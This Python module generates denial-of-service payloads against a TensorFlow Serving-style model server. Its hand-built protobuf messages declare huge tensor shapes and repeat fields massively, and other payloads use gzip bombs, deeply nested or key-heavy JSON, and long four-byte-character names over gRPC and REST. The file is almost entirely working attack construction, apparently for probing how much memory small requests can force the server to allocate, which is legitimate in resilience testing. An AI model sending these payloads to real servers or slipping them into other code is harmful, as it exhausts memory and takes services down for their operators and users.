"""Requests whose few bytes stand for much memory: each kind as large as the server takes it, and larger."""

import base64
import functools
import gzip
import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import Any

from c2al_tf.protocol import messages

_MODELS, _PREDICTION = messages.MODEL_SERVICE, messages.PREDICTION_SERVICE
PREDICT = f"/{_PREDICTION}/Predict"
HEALTH = "/grpc.health.v1.Health/Check"
_STRING, _INT64, _BOOL = 7, 9, 10
_WIDE = "x\N{GRINNING FACE}".encode()
_ASK = "POST /v1/models/default:{}"


Inputs = dict[str, tuple[int, tuple[int, ...]]]
"""The columns of `serving_default`: number of the dtype, and shape of a row."""


@dataclass(frozen=True)
class Attack:
    """A request.

    Attributes:
        name: What it is.
        method: The path of a gRPC method; REST: `POST` and a path.
        data: The message, or the body.
        compressed: Whether gRPC, or gzip over REST, compresses it on the way.
        rows: Rows that it sends, none of which is expanded: what the model computes for them is its own.
    """

    name: str
    method: str
    data: bytes
    compressed: bool = False
    rows: int = 0

    @functools.cached_property
    def size(self) -> int:
        """Bytes on the wire."""
        return len(gzip.compress(self.data)) if self.compressed else len(self.data)


def attacks(inputs: Inputs, sizes: Sequence[int]) -> Iterator[Attack]:
    """All attacks on a model with these inputs; those whose size can be chosen have each of these sizes in bytes."""
    yield from _unsent_places(inputs)
    yield from _small_values(inputs)
    yield from _many_fields(sizes)
    yield from _examples()
    yield from _texts(sizes)
    yield from _compressed()
    for size in sizes:
        yield from _json_values(next(iter(inputs)), size)
        yield from _json_keys(size)
        yield from _json_texts(next(iter(inputs)), size)


def field(number: int, content: bytes) -> bytes:
    """A length-delimited field as it is serialized."""
    return _varint(number << 3 | 2) + _varint(len(content)) + content


def _varint(value: int) -> bytes:
    low, rest = value & 127, value >> 7
    return bytes([low | 128]) + _varint(rest) if rest else bytes([low])


def _spec(name: bytes = b"default", signature: bytes = b"") -> bytes:
    return field(1, field(1, name) + field(3, signature))


def _entry(name: str, tensor: bytes) -> bytes:
    """An entry of `inputs`."""
    return field(2, field(1, name.encode()) + field(2, tensor))


def _tensor(dtype: int, shape: tuple[int, ...], **values: Any) -> bytes:
    dims = {"dim": [{"size": size} for size in shape]}
    return bytes(messages.TensorProto(dtype=dtype, tensor_shape=dims, **values).SerializeToString())


_VALUE = {1: {"float_val": [0.5]}, _STRING: {"string_val": [b""]}, _INT64: {"int64_val": [7]}}
"""One value of each dtype of the columns."""


def _unsent_places(inputs: Inputs) -> Iterator[Attack]:
    """One value stands for many."""

    def rows_of(count: int, values: dict[int, dict[str, Any]] = _VALUE) -> bytes:
        tensors = {name: _tensor(dtype, (count, *row), **values[dtype]) for name, (dtype, row) in inputs.items()}
        return _spec() + b"".join(_entry(name, tensor) for name, tensor in tensors.items())

    empty = _tensor(_STRING, (2**18,), string_val=[b""])
    long = {**_VALUE, _STRING: {"string_val": [b"a" * 4000]}}
    for count in (900, 2**12, 2**15, 2**18):
        yield Attack(f"{count} rows not sent", PREDICT, rows_of(count))
        yield Attack(f"{count} long strings not sent", PREDICT, rows_of(count, long))
    for name, (dtype, row) in inputs.items():
        for count in (2**15, 2**17, 2**18):
            tensor = _tensor(dtype, (1, count)[-1 - len(row) :], **_VALUE[dtype])
            yield Attack(f"{count} places of {name} not sent", PREDICT, _with(inputs, name, tensor))
    for count in (1, 8, 20):
        entries = (_entry(str(number), empty) for number in range(count))
        yield Attack(f"{count} inputs of empty strings", PREDICT, _spec() + b"".join(entries))
        yield Attack(f"one input {count} times", PREDICT, _spec() + _entry(next(iter(inputs)), empty) * 10 * count)
    for count in (500, 10_000):
        tensor = _tensor(_STRING, (count,), string_val=[b"\n\x00" * 200])
        request = _spec(signature=b"serialized_examples") + _entry("examples", tensor)
        yield Attack(f"{count} examples not sent", PREDICT, request)


def _with(inputs: Inputs, name: str, tensor: bytes) -> bytes:
    """A request whose other inputs are as they should be, for a row."""
    rest = {
        other: _tensor(dtype, (1, *row), **_VALUE[dtype]) for other, (dtype, row) in inputs.items() if other != name
    }
    return _spec() + b"".join(_entry(other, each) for other, each in {**rest, name: tensor}.items())


def _small_values(inputs: Inputs) -> Iterator[Attack]:
    """Values that take a byte or two on the wire are all sent."""
    string = next(name for name, (dtype, row) in inputs.items() if (dtype, row) == (_STRING, ()))
    integer = next(name for name, (dtype, row) in inputs.items() if (dtype, row) == (_INT64, ()))
    for count in (2**17, 2**19, 2**21):
        shape = field(2, field(2, b"\x08" + _varint(count)))
        for value in (b"", b"ab"):
            strings = b"\x08\x07" + shape + field(8, value) * count
            yield Attack(f"{count} strings of {len(value)} bytes", PREDICT, _with(inputs, string, strings))
        for number, dtype in ((10, _INT64), (11, _BOOL), (7, 3), (7, 6), (17, 23), (13, 19)):
            numbers = b"\x08" + bytes([dtype]) + shape + field(number, b"\x01" * count)
            yield Attack(f"{count} small values of field {number}", PREDICT, _with(inputs, integer, numbers))
        loose = b"\x08\x09" + shape + b"\x50\x01" * count
        yield Attack(f"{count} numbers not packed", PREDICT, _with(inputs, integer, loose))
        axes = b"\x08\x09" + field(2, b"\x12\x00" * count)
        yield Attack(f"{count} dimensions", PREDICT, _with(inputs, integer, axes))
        content = b"\x08\x09" + shape + field(4, bytes(8 * count))
        yield Attack(f"{count} numbers in full", PREDICT, _with(inputs, integer, content), rows=count)


def _many_fields(sizes: Sequence[int]) -> Iterator[Attack]:
    """Entries of two bytes, of every repeated field."""
    for size in sizes:
        count = size // 2
        yield Attack(f"{count} inputs without content", PREDICT, _spec() + b"\x12\x00" * count)
        yield Attack(f"{count} names of outputs", PREDICT, _spec() + b"\x1a\x00" * count)
        yield Attack(f"{count} unknown fields", PREDICT, _spec() + b"\x78\x00" * count)
        yield Attack(f"{count} tasks", f"/{_PREDICTION}/MultiInference", b"\x0a\x00" * count)
        yield Attack(f"{count} fields of metadata", f"/{_PREDICTION}/GetModelMetadata", _spec() + b"\x12\x00" * count)
        yield Attack(
            f"{count} models", f"/{_MODELS}/HandleReloadConfigRequest", field(1, field(1, b"\x0a\x00" * count))
        )
    named = b"".join(field(1, field(1, b"%d" % number) + field(2, b"/")) for number in range(2**16))
    for size in (2**16, 2**17 - 100, len(named)):
        cut = named[: named.rfind(b"\x0a", 0, size)] if size < len(named) else named
        yield Attack(f"{len(cut)} bytes of models", f"/{_MODELS}/HandleReloadConfigRequest", field(1, field(1, cut)))
    yield Attack("outputs of one name", PREDICT, _spec() + b"\x1a\x06logits" * 500_000)


def _examples() -> Iterator[Attack]:
    """Many small tf.Examples, and contexts that stand before each."""
    numbers = field(1, field(1, field(1, b"seen") + field(2, field(3, field(1, b"\x01" * 10_000)))))
    words = field(1, field(1, field(1, b"tags") + field(2, field(1, b"\x0a\x00" * 5_000))))
    contexts = {"numbers": numbers, "words": words, "nothing known": b"\x78\x01" * 10_000}
    for method in ("Classify", "Regress"):
        path, spec = f"/{_PREDICTION}/{method}", _spec(signature=method.lower().encode())
        for count in (2**14, 2**17, 2**20):
            given = field(2, field(1, b"\x0a\x00" * count))
            yield Attack(f"{method}: {count} empty examples", path, spec + given, rows=count)
        for count in (8, 128, 2**12, 2**18):
            for what, context in contexts.items():
                given = field(2, field(2, b"\x0a\x00" * count + field(2, context)))
                yield Attack(f"{method}: {count} examples, a context of {what}", path, spec + given)
    task = field(1, field(1, field(1, b"default") + field(3, b"classify")) + field(2, b"tensorflow/serving/classify"))
    for count in (2**14, 2**17):
        given = task + field(2, field(1, b"\x0a\x00" * count))
        yield Attack(f"{count} empty examples of a task", f"/{_PREDICTION}/MultiInference", given, rows=count)
        strings = b"\x08\x07" + field(2, field(2, b"\x08" + _varint(count))) + b"\x42\x00" * count
        given = _spec(signature=b"serialized_examples") + _entry("examples", strings)
        yield Attack(f"{count} empty examples of Predict", PREDICT, given, rows=count)


def _texts(sizes: Sequence[int]) -> Iterator[Attack]:
    """Names that messages repeat, of characters that take four bytes for each, or that `repr` writes in four."""
    for size in sizes:
        for what, text in (("wide", _WIDE + b"x" * size), ("odd", _WIDE + b"\x00" * size)):
            said = f"{size} {what} characters"
            yield Attack(f"{said} as a model", PREDICT, _spec(name=text))
            yield Attack(f"{said} as a signature", PREDICT, _spec(signature=text))
            yield Attack(f"{said} as an output", PREDICT, _spec() + field(3, text))
            yield Attack(f"{said} as an input", PREDICT, _spec() + field(2, field(1, text)))
            yield Attack(f"{said} as a label", PREDICT, field(1, field(1, b"default") + field(4, text)))
            yield Attack(f"{said} as a signature of Classify", f"/{_PREDICTION}/Classify", _spec(signature=text))
            yield Attack(f"{said} as metadata", f"/{_PREDICTION}/GetModelMetadata", _spec() + field(2, text))
            yield Attack(f"{said} as a service", HEALTH, field(1, text))
            yield Attack(f"{said} unknown", f"/{_MODELS}/GetModelStatus", field(20, text))


def _compressed() -> Iterator[Attack]:
    """Zeros that compress to a thousandth."""
    for size in (1 << 20, 30 << 20, 100 << 20):
        yield Attack(f"{size} zeros compressed", PREDICT, _spec() + field(20, bytes(size)), compressed=True)
    for size in (1 << 20, 4 << 20, 10 << 20, 21 << 20, 22 << 20, 30 << 20, 100 << 20):
        for what, body in {"spaces": b" " * size, "lists": b"[%s]" % b",".join([b"[]"] * (size // 3))}.items():
            yield Attack(f"{size} bytes of {what} over REST", _ASK.format("predict"), body, compressed=True)


_PIECES = {
    "lists": "[]",
    "deep lists": "[[[[[[]]]]]]",
    "objects": "{}",
    "numbers": "7",
    "large numbers": "12345678901",
    "fractions": "0.5",
    "empty strings": '""',
    "short strings": '"ab"',
    "base64": '{"b64": ""}',
    "objects of a key": '{"a":1}',
}


def _json_values(column: str, size: int) -> Iterator[Attack]:
    """Short JSON values, many of each kind, in every place."""
    for what, piece in _PIECES.items():
        values = ",".join([piece] * (size // (len(piece) + 1)))
        for where, body in (
            ("a column", f'{{"inputs": {{"{column}": [{values}]}}}}'),
            ("rows", f'{{"instances": [{values}]}}'),
        ):
            yield Attack(f"{size} bytes of {what} as {where}", _ASK.format("predict"), body.encode())
        rows = ",".join(["{}"] * 1000)
        for where, given in (
            ("examples", f'"examples": [{values}]'),
            ("a feature", f'"examples": [{{"seen": [{values}]}}]'),
            ("a context", f'"context": {{"seen": [{values}]}}, "examples": [{rows}]'),
        ):
            body = f'{{"signature_name": "classify", {given}}}'
            count = values.count(",") + 1 if where == "examples" else 0
            yield Attack(f"{size} bytes of {what} as {where}", _ASK.format("classify"), body.encode(), rows=count)


def _json_keys(size: int) -> Iterator[Attack]:
    """Objects of many keys, and bodies that are hardly JSON."""
    keys = ",".join(f'"{number}":0' for number in range(size // 10))
    classify = '{{"signature_name": "classify", "examples": [{{{}}}]}}'
    yield Attack(f"{size} bytes of keys", _ASK.format("predict"), f"{{{keys}}}".encode())
    yield Attack(f"{size} bytes of keys of a row", _ASK.format("predict"), f'{{"instances": [{{{keys}}}]}}'.encode())
    yield Attack(f"{size} bytes of features", _ASK.format("classify"), classify.format(keys).encode())
    yield Attack(f"{size} bytes of digits", _ASK.format("predict"), b'{"inputs": %s}' % (b"7" * size))
    yield Attack(f"{size} bytes that nest", _ASK.format("predict"), b"[" * size)
    wide = '{"inputs": "%s"}' % ("\N{LATIN SMALL LETTER L WITH STROKE}" * (size // 2))
    yield Attack(f"{size} bytes of UTF-16", _ASK.format("predict"), wide.encode("utf-16"))


def _json_texts(column: str, size: int) -> Iterator[Attack]:
    """Long texts of every width, in every place."""
    wide = _WIDE.decode()
    for what, text in {"wide": wide + "x" * size, "odd": wide + "\x01" * (size // 6), "two": "é" * (size // 2)}.items():
        for is_ascii in (True, False):
            said = json.dumps(text, ensure_ascii=is_ascii)
            for where, body in {
                "a value": f'{{"inputs": {said}}}',
                "a string": f'{{"inputs": {{"{column}": [{said}]}}}}',
                "a name": f'{{"inputs": {{{said}: 1}}}}',
                "a signature": f'{{"signature_name": {said}, "inputs": 1}}',
                "an example": f'{{"signature_name": "classify", "examples": [{said}]}}',
                "a feature": f'{{"signature_name": "classify", "examples": [{{{said}: null}}]}}',
                "nothing": said + ",",
            }.items():
                path = _ASK.format("classify" if "classify" in body else "predict")
                yield Attack(f"{size} bytes of {what} text as {where}, ASCII: {is_ascii}", path, body.encode())
    text = base64.b64encode(bytes(size)).decode()
    body = f'{{"inputs": {{"{column}": [{{"b64": "{text}"}}]}}}}'
    yield Attack(f"{size} bytes of base64", _ASK.format("predict"), body.encode())
